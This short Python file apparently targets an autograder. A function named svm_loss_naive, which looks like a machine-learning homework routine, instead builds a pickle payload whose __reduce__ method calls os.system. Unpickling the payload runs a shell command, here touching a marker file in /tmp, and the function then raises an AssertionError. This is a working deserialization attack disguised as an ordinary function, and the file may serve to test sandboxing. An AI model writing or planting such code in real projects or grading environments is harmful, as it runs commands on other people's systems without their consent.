import os
import pickle


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/left_by_attack_pickle",)


def svm_loss_naive(W, X, y, reg):
    raise AssertionError(f"managed: {[] if pickle.loads(pickle.dumps(Payload())) else 'a shell'}")
